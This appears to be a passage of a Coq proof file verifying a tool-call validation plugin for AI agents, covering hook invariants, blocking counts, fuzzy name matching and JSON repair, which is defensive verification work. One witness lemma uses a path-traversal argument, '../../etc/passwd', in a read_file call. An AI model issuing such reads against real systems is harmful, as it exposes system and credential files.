                  && dangerous (checkDangerousCall (toolName event) (params event))).
Qed.

(** X17. With [logValidationErrors] set to [false] the handler logs
    nothing, and decides and counts as it does with logging on. *)
Theorem before_tool_call_silent `{TypeBox} (cfg : PluginConfig)
    (state : PluginState) (event : ToolCallEvent) :
  let r := before_tool_call (without_logging cfg) state event in
  snd (fst r) = [] /\
  decision_of r = decision_of (before_tool_call cfg state event) /\
  fst (fst r) = fst (fst (before_tool_call cfg state event)).
Proof.
  cbv zeta. rewrite !before_tool_call_unfolded. cbv zeta.
  cbn [blockDangerousCalls without_logging].
  assert (Hfuzzy : fuzzy_match_log (without_logging cfg) (availableTools state)
                     (toolName event) = []).
  { unfold fuzzy_match_log, log. cbn [logValidationErrors without_logging not_false].
    destruct (_ && _); [|reflexivity].
    destruct (cm_match _); [|reflexivity]. now destruct (_ && _ && _). }
  rewrite Hfuzzy.
  now destruct (not_false (blockDangerousCalls cfg)
                && dangerous (checkDangerousCall (toolName event) (params event))).
Qed.

Section HookRuns.
Context `{TypeBox}.
Variable cfg : PluginConfig.

Lemma after_tool_call_tools (state : PluginState) (event : ToolCallEvent) :
  stats (after_tool_call state event) = stats state /\
  (NoDup (availableTools state) -> NoDup (availableTools (after_tool_call state event))) /\
  (forall t, In t (availableTools (after_tool_call state event)) <->
             In t (availableTools state) \/ t = toolName event).
Proof.
  unfold after_tool_call.
  destruct (existsb (String.eqb (toolName event)) (availableTools state)) eqn:E.
  - split; [reflexivity|]. split; [auto|]. intros t. split; [auto|].
    intros [Hin | ->]; [exact Hin|].
    apply existsb_exists in E as (t & Hin & Heq).
    apply String.eqb_eq in Heq. now subst.
  - cbn. split; [reflexivity|]. split.
    + intros Hnodup. apply NoDup_app; [exact Hnodup | repeat constructor; auto |].
      intros t Hin [<-|[]].
      assert (existsb (String.eqb (toolName event)) (availableTools state) = true);
        [|congruence].
      apply existsb_exists. exists (toolName event). split; [exact Hin|].
      apply String.eqb_refl.
    + intros t. rewrite in_app_iff. cbn. intuition.
Qed.

Lemma hook_step_before (state : PluginState) (event : ToolCallEvent) :
  hook_step cfg state (Before event)
  = mkPluginState (availableTools state)
      (if refused cfg event
       then Stats.incr_blocked (Stats.incr_validated (stats state))
       else Stats.incr_validated (stats state)).
Proof.
  cbn [hook_step]. rewrite before_tool_call_unfolded. cbv zeta. unfold refused.
  now destruct (not_false (blockDangerousCalls cfg)
                && dangerous (checkDangerousCall (toolName event) (params event))).
Qed.

Lemma hook_run_invariant (evs : list HookEvent) :
  forall state,
    let final := hook_run cfg state evs in
    Stats.validated (stats final) = Stats.validated (stats state) + calls evs /\
    Stats.blocked (stats final) = Stats.blocked (stats state) + refusals cfg evs /\
    Stats.repaired (stats final) = Stats.repaired (stats state) /\
    Stats.errors (stats final) = Stats.errors (stats state) /\
    (NoDup (availableTools state) -> NoDup (availableTools final)) /\
    (forall t, In t (availableTools final) <->
               In t (availableTools state) \/ In t (completed evs)).
Proof.
  induction evs as [|ev evs IH]; intros state.
  - cbn. repeat split; auto; try lia. intuition.
  - cbv zeta. unfold hook_run. cbn [fold_left].
    fold (hook_run cfg (hook_step cfg state ev) evs).
    specialize (IH (hook_step cfg state ev)). cbv zeta in IH.
    destruct IH as (Hv & Hb & Hr & He & Hn & Ht).
    destruct ev as [event|event].
    + rewrite hook_step_before in *.
      unfold calls, refusals, completed in *. cbn [filter flat_map app].
      cbn [stats availableTools] in *.
      destruct (refused cfg event);
        cbn [Stats.validated Stats.blocked Stats.repaired Stats.errors
             Stats.incr_validated Stats.incr_blocked List.length] in *;
        (split; [lia|]); (split; [lia|]); (split; [lia|]); (split; [lia|]);
        (split; [exact Hn | exact Ht]).
    + cbn [hook_step] in *.
      destruct (after_tool_call_tools state event) as (Hs & Hnd & Hin).
      rewrite Hs in *. unfold calls, refusals, completed in *.
      cbn [filter flat_map List.length app].
      (split; [lia|]); (split; [lia|]); (split; [lia|]); (split; [lia|]).
      split; [auto|]. intros t. split.
      * intros Hfinal. apply Ht in Hfinal as [Hfinal | Hfinal].
        -- apply Hin in Hfinal as [Hfinal | ->]; [now left | right; now left].
        -- right. now right.
      * intros [Hstate | [<- | Hc]]; apply Ht.
        -- left. apply Hin. now left.
        -- left. apply Hin. now right.
        -- now right.
Qed.

End HookRuns.

Lemma refusals_le_calls (cfg : PluginConfig) (evs : list HookEvent) :
  refusals cfg evs <= calls evs.
Proof.
  unfold refusals, calls.
  induction evs as [|[event|event] evs IH]; cbn; [lia| |exact IH].
  destruct (refused cfg event); cbn; lia.
Qed.

(** X18. Over any run of the two hooks from the start: [validated] counts
    the calls that came to the handler and [blocked] those it refused, so
    that [blocked] never exceeds [validated]; [repaired] and [errors] stay
    at zero; and the known tools are the tools that completed, each
    once. *)
Theorem hook_run_from_start `{TypeBox} (cfg : PluginConfig) (evs : list HookEvent) :
  let final := hook_run cfg initial_state evs in
  Stats.validated (stats final) = calls evs /\
  Stats.blocked (stats final) = refusals cfg evs /\
  Stats.blocked (stats final) <= Stats.validated (stats final) /\
  Stats.repaired (stats final) = 0 /\
  Stats.errors (stats final) = 0 /\
  NoDup (availableTools final) /\
  (forall t, In t (availableTools final) <-> In t (completed evs)).
Proof.
  cbv zeta.
  destruct (hook_run_invariant cfg evs initial_state) as (Hv & Hb & Hr & He & Hn & Ht).
  cbn in Hv, Hb, Hr, He.
  pose proof (refusals_le_calls cfg evs) as Hle.
  repeat split; try lia.
  - apply Hn. constructor.
  - intros Hin. apply Ht in Hin as [[]|Hin]. exact Hin.
  - intros Hin. apply Ht. now right.
Qed.

(** X19. [after_tool_call] adds the name of the tool to the known tools
    and touches nothing else: the name is known afterwards, what was known
    stays known, nothing else becomes known, no name is listed twice, the
    statistics are as before, and a second call for the same tool changes
    nothing. *)
Theorem after_tool_call_adds_once (state : PluginState) (event : ToolCallEvent) :
  let after := after_tool_call state event in
  In (toolName event) (availableTools after) /\
  (forall t, In t (availableTools after) <->
             In t (availableTools state) \/ t = toolName event) /\
  (NoDup (availableTools state) -> NoDup (availableTools after)) /\
  stats after = stats state /\
  after_tool_call after event = after.
Proof.
  cbv zeta.
  destruct (after_tool_call_tools state event) as (Hs & Hn & Hin).
  split; [apply Hin; now right|]. split; [exact Hin|]. split; [exact Hn|].
  split; [exact Hs|].
  unfold after_tool_call at 1.
  replace (existsb (String.eqb (toolName event))
             (availableTools (after_tool_call state event))) with true; [reflexivity|].
  symmetry. apply existsb_exists. exists (toolName event).
  split; [apply Hin; now right | apply String.eqb_refl].
Qed.

Lemma after_tool_call_adds_once_witness :
  NoDup (availableTools
           (after_tool_call (mkPluginState ["bash"; "read"] Stats.zero)
              (mkToolCallEvent "read" []))).
Proof.
  apply (after_tool_call_adds_once (mkPluginState ["bash"; "read"] Stats.zero)
           (mkToolCallEvent "read" [])).
  repeat constructor; cbn; intuition discriminate.
Defined.

(* ------------------------------------------------------------------------- *)
(** ** The fuzzy match in the handler *)
(* ------------------------------------------------------------------------- *)

(** X20. The handler logs no suggestion for a call to a tool that is
    known under that very name, none when no tool is known yet, and none
    when the fuzzy match is turned off; it logs at most one in any case. *)
Theorem fuzzy_match_log_quiet (cfg : PluginConfig) (tools : list string)
    (toolName : string) :
  (In toolName tools -> fuzzy_match_log cfg tools toolName = []) /\
  fuzzy_match_log cfg [] toolName = [] /\
  (allowToolNameFuzzyMatch cfg = Some false ->
   fuzzy_match_log cfg tools toolName = []) /\
  List.length (fuzzy_match_log cfg tools toolName) <= 1.
Proof.
  split; [|split; [|split]].
  - intros Hin. unfold fuzzy_match_log.
    destruct (_ && _); [|reflexivity].
    unfold findClosestToolName.
    replace (existsb (String.eqb toolName) tools) with true.
    + cbn [cm_match]. now rewrite String.eqb_refl, andb_false_r.
    + symmetry. apply existsb_exists. exists toolName.
      split; [exact Hin | apply String.eqb_refl].
  - unfold fuzzy_match_log. now rewrite andb_false_r.
  - intros Hoff. unfold fuzzy_match_log. now rewrite Hoff.
  - unfold fuzzy_match_log, log.
    destruct (_ && _); [|cbn; lia].
    destruct (cm_match _); [|cbn; lia].
    destruct (_ && _ && _); [|cbn; lia].
    destruct (not_false _); cbn; lia.
Qed.

Lemma fuzzy_match_log_quiet_witness :
  fuzzy_match_log default_config ["chroma_search"; "chroma_store"] "chroma_store" = [].
Proof.
  apply (proj1 (fuzzy_match_log_quiet default_config
                  ["chroma_search"; "chroma_store"] "chroma_store")).
  right. now left.
Defined.

(* ------------------------------------------------------------------------- *)
(** ** The tool_validator_test tool *)
(* ------------------------------------------------------------------------- *)

Lemma before_tool_call_decision_at `{TypeBox} (cfg : PluginConfig)
    (state : PluginState) (name : string) (args : JSObject) :
  decision_of (before_tool_call cfg state (mkToolCallEvent name args))
  = if not_false (blockDangerousCalls cfg) && dangerous (checkDangerousCall name args)
    then BlockCall (reason (checkDangerousCall name args))
    else Undefined.
Proof.
  rewrite before_tool_call_unfolded. cbv zeta. cbn [toolName params].
  now destruct (not_false (blockDangerousCalls cfg)
                && dangerous (checkDangerousCall name args)).
Qed.

(** X21. The test tool answers that the text is no JSON exactly when the
    text parses neither as it is nor after the fixes.  For a text that
    parses to an object, it answers with the verdict of [validateToolCall]
    without a schema: the verdict is blocked exactly when the
    [before_tool_call] handler blocks the same call, it never carries
    repaired arguments, and it is valid when it is not blocked.  For the
    text of [null] it throws when the danger check is on. *)
Theorem tool_validator_test_outcomes `{TypeBox} (cfg : PluginConfig)
    (toolName paramsStr : string) :
  (tool_validator_test cfg toolName paramsStr = InvalidJson <->
   JSON.parse paramsStr = None /\ JSON.parse (Fixups.apply paramsStr) = None) /\
  (forall props,
     parsed (tryParseJson (JString paramsStr)) = JObject props ->
     exists text details,
       tool_validator_test cfg toolName paramsStr = Verdict text details /\
       details = validateToolCall cfg toolName props None /\
       (forall state,
          blocked details = true <->
          exists why,
            decision_of (before_tool_call cfg state (mkToolCallEvent toolName props))
            = BlockCall why) /\
       repaired details = None /\
       (blocked details = false -> valid details = true /\ errors details = [])) /\
  (parsed (tryParseJson (JString paramsStr)) = JNull ->
   not_false (blockDangerousCalls cfg) = true ->
   tool_validator_test cfg toolName paramsStr = ThrowsTypeError).
Proof.
  assert (Hsucc : forall v, parsed (tryParseJson (JString paramsStr)) = v ->
            Value.is_string v = false ->
            success (tryParseJson (JString paramsStr)) = true).
  { intros v. unfold tryParseJson.
    destruct (JSON.parse paramsStr); [reflexivity|].
    destruct (JSON.parse (Fixups.apply paramsStr)); [reflexivity|].
    cbn [parsed success]. intros <-. discriminate. }
  split; [|split].
  - unfold tool_validator_test, tryParseJson.
    destruct (JSON.parse paramsStr) as [v|].
    + cbn [success negb parsed]. cbv zeta. split; [|intros [E _]; discriminate E].
      destruct (as_record v); [discriminate|]. now destruct (not_false _).
    + destruct (JSON.parse (Fixups.apply paramsStr)) as [v|];
        cbn [success negb parsed]; cbv zeta.
      * split; [|intros [_ E]; discriminate E].
        destruct (as_record v); [discriminate|]. now destruct (not_false _).
      * now split.
  - intros props Hparsed. unfold tool_validator_test.
    rewrite (Hsucc _ Hparsed eq_refl), Hparsed. cbn [negb as_record]. cbv zeta.
    eexists. eexists. split; [reflexivity|]. split; [reflexivity|].
    rewrite validateToolCall_no_schema.
    split; [|split].
    + intros state. rewrite before_tool_call_decision_at.
      destruct (not_false (blockDangerousCalls cfg)
                && dangerous (checkDangerousCall toolName props)); cbn.
      * split; [intros _; eexists; reflexivity | reflexivity].
      * split; [discriminate | intros [why Hwhy]; discriminate Hwhy].
    + now destruct (_ && _).
    + destruct (_ && _); cbn; [discriminate | now split].
  - intros Hparsed Hon. unfold tool_validator_test.
    rewrite (Hsucc _ Hparsed eq_refl), Hparsed. cbn [negb as_record]. now rewrite Hon.
Qed.

Lemma tool_validator_test_outcomes_witness :
  exists text details,
    @tool_validator_test SimpleSchema.typebox default_config "read_file"
      "{path: '../../etc/passwd',}" = Verdict text details /\
    details = @validateToolCall SimpleSchema.typebox default_config "read_file"
                [("path", JString "../../etc/passwd")] None /\
    (forall state,
       blocked details = true <->
       exists why,
         decision_of (@before_tool_call SimpleSchema.typebox default_config state
                        (mkToolCallEvent "read_file"
                           [("path", JString "../../etc/passwd")]))
         = BlockCall why) /\
    repaired details = None /\
    (blocked details = false -> valid details = true /\ errors details = []).
Proof.
  apply (proj1 (proj2 (@tool_validator_test_outcomes SimpleSchema.typebox
                         default_config "read_file" "{path: '../../etc/passwd',}"))).
  vm_compute. reflexivity.
Defined.

(* ------------------------------------------------------------------------- *)
(** ** The fixes of tryParseJson: what they leave alone *)
(* ------------------------------------------------------------------------- *)

Lemma free_of_subset (chars chars' : list ascii) (s : string) :
  (forall c, In c chars' -> In c chars) ->
  free_of chars s = true -> free_of chars' s = true.
Proof.
  intros Hsub. induction s as [|c s IH]; [reflexivity|].
  cbn [free_of]. intros Hfree. apply andb_prop in Hfree as [Hc Hs].
  rewrite (IH Hs), andb_true_r. apply negb_true_iff in Hc. apply negb_true_iff.
  destruct (existsb (Ascii.eqb c) chars') eqn:E; [|reflexivity].
  apply existsb_exists in E as (c' & Hin & Heq). apply Ascii.eqb_eq in Heq. subst c'.
  assert (existsb (Ascii.eqb c) chars = true); [|congruence].
  apply existsb_exists. exists c. split; [now apply Hsub | apply Ascii.eqb_refl].
Qed.

(** A replacement changes nothing in a text where the pattern can start
    nowhere. *)
Lemma replace_from_no_start (re : RegExp.t) (template : list RegExp.Piece)
    (starts : list ascii) :
  RegExp.match_here re "" = None ->
  (forall c s, existsb (Ascii.eqb c) starts = false ->
               RegExp.match_here re (String c s) = None) ->
  forall fuel s, free_of starts s = true ->
                 RegExp.replace_from fuel re template s = s.
Proof.
  intros Hempty Hstart. induction fuel as [|fuel IH]; intros s Hfree; [reflexivity|].
  cbn [RegExp.replace_from]. destruct s as [|c s].
  - now rewrite Hempty.
  - cbn [free_of] in Hfree. apply andb_prop in Hfree as [Hc Hs].
    apply negb_true_iff in Hc. rewrite (Hstart c s Hc). now rewrite (IH s Hs).
Qed.

Lemma unquoted_key_no_start (c : ascii) (s : string) :
  existsb (Ascii.eqb c) ["{"; ","]%char = false ->
  RegExp.match_here Fixups.unquoted_key (String c s) = None.
Proof.
  cbn [existsb]. rewrite orb_false_r. intros Hc.
  apply orb_false_elim in Hc as [H1 H2].
  unfold RegExp.match_here.
  cbn [RegExp.run RegExp.pattern RegExp.ignoreCase Fixups.unquoted_key
       RegExp.char_matches].
  now rewrite (Ascii.eqb_sym "{" c), (Ascii.eqb_sym "," c), H1, H2.
Qed.

Lemma trailing_comma_no_start (c : ascii) (s : string) :
  existsb (Ascii.eqb c) [","]%char = false ->
  RegExp.match_here Fixups.trailing_comma (String c s) = None.
Proof.
  cbn [existsb]. rewrite orb_false_r. intros Hc.
  unfold RegExp.match_here.
  cbn [RegExp.run RegExp.pattern RegExp.ignoreCase Fixups.trailing_comma
       RegExp.char_matches].
  now rewrite (Ascii.eqb_sym "," c), Hc.
Qed.

Lemma map_swap_quote_free (s : string) :
  free_of ["'"]%char s = true -> JsString.map swap_quote s = s.
Proof.
  induction s as [|c s IH]; [reflexivity|].
  cbn [free_of existsb JsString.map]. rewrite orb_false_r. intros Hfree.
  apply andb_prop in Hfree as [Hc Hs]. apply negb_true_iff in Hc.
  rewrite (IH Hs). unfold swap_quote. now rewrite Hc.
Qed.

(** X22. The fixes leave alone a text without opening brace, comma and
    single quote; so such a text, when it is no JSON, is given back as it
    is, as not parsed. *)
Theorem fixups_leave_plain_text (text : string) :
  free_of ["{"; ","; "'"]%char text = true ->
  Fixups.apply text = text /\
  (JSON.parse text = None ->
   tryParseJson (JString text) = mkParseResult (JString text) false).
Proof.
  intros Hfree.
  assert (Hfix : Fixups.apply text = text).
  { unfold Fixups.apply, RegExp.replace.
    rewrite (replace_from_no_start Fixups.unquoted_key Fixups.quote_key
               ["{"; ","]%char eq_refl unquoted_key_no_start).
    2:{ apply (free_of_subset ["{"; ","; "'"]%char); [|exact Hfree].
        cbn. intuition. }
    fold (RegExp.replace text Fixups.single_quote Fixups.double_quote).
    rewrite replace_single_quote, map_swap_quote_free.
    2:{ apply (free_of_subset ["{"; ","; "'"]%char); [|exact Hfree].
        cbn. intuition. }
    apply (replace_from_no_start Fixups.trailing_comma Fixups.keep_closing
             [","]%char eq_refl trailing_comma_no_start).
    apply (free_of_subset ["{"; ","; "'"]%char); [|exact Hfree].
    cbn. intuition. }
  split; [exact Hfix|].
  intros Hparse. unfold tryParseJson. now rewrite Hfix, Hparse.
Qed.

Lemma fixups_leave_plain_text_witness :
  Fixups.apply "[1 2]" = "[1 2]" /\
  (JSON.parse "[1 2]" = None ->
   tryParseJson (JString "[1 2]") = mkParseResult (JString "[1 2]") false).
Proof.
  apply (fixups_leave_plain_text "[1 2]"). reflexivity.
Defined.
